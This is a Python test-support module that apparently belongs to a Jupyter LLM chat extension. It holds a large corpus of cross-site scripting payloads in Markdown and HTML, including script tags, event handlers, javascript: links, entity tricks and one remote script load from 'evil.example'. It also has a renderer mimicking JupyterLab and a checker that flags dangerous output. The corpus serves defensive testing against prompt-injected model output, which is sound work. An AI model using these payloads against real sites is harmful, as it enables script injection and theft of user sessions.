"""Hostile Markdown a model (or a prompt-injected document it echoes) may send, and a checker for
the HTML a front end would make of it.

``PAYLOADS`` is the corpus every Markdown output path is tested with; ``render_like_jupyterlab``
renders Markdown the way JupyterLab renders a trusted Markdown output (math taken out first, then
CommonMark + GFM tables with raw HTML on, math pasted back escaped); ``dangers`` lists what in that
HTML could run script or leave for a scheme other than http(s)/mailto (data:image for images).
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from jupyter_llmchat.notebook.math_regions import math_regions

_HANDLER = 'alert(document.domain)'  # valid unquoted: no '=' inside
_TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details open", "input autofocus",
         "marquee", "a href=#", "div", "math", "select autofocus", "textarea autofocus", "object", "style"]

PAYLOADS: list[str] = [
    # raw HTML: script, handlers on every kind of tag, frames, objects, styles
    "<script>window.__pwned=1</script>",
    "before <script>window.__pwned=1</script> after",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__pwned=1</script>",
    *[f"<{tag} onerror={_HANDLER} onload={_HANDLER} onfocus={_HANDLER} ontoggle={_HANDLER}>" for tag in _TAGS],
    '<img src="x" onerror="window.__pwned=1">',
    "<img/src=x/onerror=\"window.__pwned=1\">",
    "<img src=x\nonerror=\"window.__pwned=1\">",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="javascript:window.__pwned=1">',
    "<style>body{background:url(javascript:window.__pwned=1)}</style>",
    '<svg><script>window.__pwned=1</script></svg>',
    '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned=1\"></style></mtext></math>',
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    '<a href="javascript:window.__pwned=1">click</a>',
    "<!-- <img src=x onerror=\"window.__pwned=1\"> -->",
    "<![CDATA[<img src=x onerror=\"window.__pwned=1\">]]>",
    "<?php echo 1 ?><img src=x onerror=\"window.__pwned=1\">",
    "<!DOCTYPE html><img src=x onerror=\"window.__pwned=1\">",
    # unclosed and broken tags
    "<img src=x onerror=\"window.__pwned=1\"",
    "<div\nonmouseover=\"window.__pwned=1\">text",
    "text <b onmouseover=\"window.__pwned=1\">bold",
    "<img src=x onerror=\"window.__pwned=1\" <b>",
    # links and images with dangerous schemes, entity and whitespace tricks
    "[click](javascript:window.__pwned=1)",
    "[click](JAVASCRIPT:window.__pwned=1)",
    "[click](jav&#x61;script:window.__pwned=1)",
    "[click](jav&#97;script:window.__pwned=1)",
    "[click](javascript&colon;window.__pwned=1)",
    "[click](java\tscript:window.__pwned=1)",
    "[click](java\\script:window.__pwned=1)",
    "[click](  javascript:window.__pwned=1)",
    "[click](\njavascript:window.__pwned=1)",
    "[click](\u00a0javascript:window.__pwned=1)",
    "[click](\x01javascript:window.__pwned=1)",
    "[click](&#0000106;avascript:window.__pwned=1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](<javascript:window.__pwned=1>)",
    "[click](<https://ok.example/>)",
    '[click](javascript:window.__pwned=1 "title")',
    "[click](https://ok.example/\"onmouseover=\"window.__pwned=1)",
    "![img](javascript:window.__pwned=1)",
    '![img](x" onerror="window.__pwned=1)',
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![img](javascript:window.__pwned=1)](javascript:window.__pwned=1)",
    "<javascript:window.__pwned=1>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>window.__pwned=1</script>>",
    "[x]: javascript:window.__pwned=1\n\n[click][x] and [x]",
    "[x]:\njavascript:window.__pwned=1\n\n[click][x]",
    "[x]: <javascript:window.__pwned=1>\n\n[x]",
    "> [x]: javascript:window.__pwned=1\n\n[x]",
    "- [x]: javascript:window.__pwned=1\n\n[x]",
    "[x\ny]: javascript:window.__pwned=1\n\n[x y]",
    "[a `b]: https://ok.example/\n\n[c][a `b] <img src=x onerror=\"window.__pwned=1\"> d`",
    "ftp://files.example/x and www.ok.example and https://ok.example/a?b=$5&c=$6",
    # code spans and fences: payloads after unbalanced backticks, across table cells
    "Use ``<img src=x onerror=\"window.__pwned=1\">`",
    "`<img src=x onerror=\"window.__pwned=1\">`",
    "`` ` <img src=x onerror=\"window.__pwned=1\"> ` ``",
    "\\`<img src=x onerror=\"window.__pwned=1\">`",
    "` open\nthen `<img src=x onerror=\"window.__pwned=1\">` more",
    "| `a | <img src=x onerror=\"window.__pwned=1\"> | b` |\n|---|---|---|\n| `c | <img src=x onerror=\"window.__pwned=1\"> | d` |",
    "| h | i |\n|---|---|\n| `a | b` <img src=x onerror=\"window.__pwned=1\"> |",
    "[a](https://ok.example/`)<img src=x onerror=\"window.__pwned=1\">`",
    "https://ok.example/`<img src=x onerror=\"window.__pwned=1\">`",
    "~x `y~ <img src=x onerror=\"window.__pwned=1\"> z`",
    "~~x `y~~ <img src=x onerror=\"window.__pwned=1\"> z`",
    "[a ``](javascript:window.__pwned=1)``",
    "[a](https://ok.example\n\"``\" ) x`<img src=x onerror=\"window.__pwned=1\">``",
    "`<img src=x onerror=\"window.__pwned=1\"> \\begin{a}` then \\end{a}",
    "`<img src=x onerror=\"window.__pwned=1\"> $` then $x$",
    "```\n<img src=x onerror=\"window.__pwned=1\">\n```",
    "```js\"><img src=x onerror=\"window.__pwned=1\">\nalert(1)\n```",
    "```\n```~\n<img src=x onerror=\"window.__pwned=1\">\n```",
    "~~~\n<script>window.__pwned=1</script>\n~~~",
    "```\ncode\n",
    "- item\n\n  ```\n  <img src=x onerror=\"window.__pwned=1\">\n  ```\n- next <img src=x onerror=\"window.__pwned=1\">",
    "> ```\n> <img src=x onerror=\"window.__pwned=1\">\n<img src=x onerror=\"window.__pwned=1\">\n> ```",
    "```\n\\begin{x}\n```\ntext \\end{x}\n````\n<img src=x onerror=\"window.__pwned=1\">\n````",
    "    <img src=x onerror=\"window.__pwned=1\">",
    # containers and tables
    "- <img src=x onerror=\"window.__pwned=1\">\n- [x](javascript:window.__pwned=1)",
    "1. <script>window.__pwned=1</script>",
    "> <iframe src=javascript:parent.__pwned=1>",
    "> > <img src=x onerror=\"window.__pwned=1\">",
    "| <img src=x onerror=\"window.__pwned=1\"> | [x](javascript:window.__pwned=1) |\n|---|---|\n| <script>window.__pwned=1</script> | b |",
    "# <img src=x onerror=\"window.__pwned=1\">\n\nSetext <img src=x onerror=\"window.__pwned=1\">\n===",
    "**<img src=x onerror=\"window.__pwned=1\">** _<svg onload=\"window.__pwned=1\">_",
    # math: MathJax commands that link or load
    "$\\href{javascript:window.__pwned=1}{click}$",
    "$$\\href{javascript:window.__pwned=1}{click}$$",
    "\\(\\href{javascript:window.__pwned=1}{x}\\) and \\[\\url{javascript:window.__pwned=1}\\]",
    "$\\require{action}\\toggle{a}{b}\\endtoggle$",
    "$x<img src=x onerror=\"window.__pwned=1\">$",
    "$a$ <img src=x onerror=\"window.__pwned=1\"> $b$",
    "costs $5 <img src=x onerror=\"window.__pwned=1\"> and $20",
    # our own inline tags, abused
    "<br onclick=\"window.__pwned=1\"> <sub onmouseover=\"window.__pwned=1\">x</sub>",
    "<br>\n`<img src=x onerror=\"window.__pwned=1\">`",
]

_BAD_ELEMENTS = {"script", "iframe", "object", "embed", "style", "frame", "frameset", "applet", "base", "form",
                 "link", "meta", "svg", "math"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "background", "poster"}
_ALLOWED_URL = re.compile(r"(?:https?://|mailto:)", re.I)
_ALLOWED_IMAGE = re.compile(r"data:image/(?:png|jpe?g|gif|webp|bmp|avif)[;,]", re.I)


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _BAD_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            elif name in _URL_ATTRIBUTES:
                url = value or ""
                stripped = re.sub(r"[\x00-\x20]", "", url)
                if not (_ALLOWED_URL.match(stripped) or (tag == "img" and name == "src" and _ALLOWED_IMAGE.match(stripped))):
                    self.found.append(f"<{tag} {name}={url!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def dangers(rendered_html: str) -> list[str]:
    """What in ``rendered_html`` could run script or navigate off http(s)/mailto (empty: nothing)."""
    finder = _Finder()
    finder.feed(rendered_html)
    finder.close()
    return finder.found


def _parser():  # type: ignore[no-untyped-def]
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    md.validateLink = lambda url: True  # marked keeps every link: so must the check
    return md


_MD = None


def render_like_jupyterlab(markdown: str) -> str:
    """HTML as JupyterLab makes it of a trusted Markdown output: math regions taken out (its own
    removeMath, ported), the rest parsed (CommonMark + GFM tables, raw HTML on), math put back
    HTML-escaped."""
    global _MD
    if _MD is None:
        _MD = _parser()
    regions = math_regions(markdown)
    pieces, math, at = [], [], 0
    for start, end in regions:
        pieces.append(markdown[at:start])
        pieces.append(f"@@{len(math)}@@")
        math.append(html.escape(markdown[start:end], quote=False))
        at = end
    pieces.append(markdown[at:])
    rendered = _MD.render("".join(pieces))
    return re.sub(r"@@(\d+)@@", lambda m: math[int(m.group(1))], rendered)


def render_commonmark(markdown: str) -> str:
    """HTML of ``markdown`` by markdown-it (CommonMark + GFM tables, raw HTML on), no math step."""
    global _MD
    if _MD is None:
        _MD = _parser()
    return _MD.render(markdown)
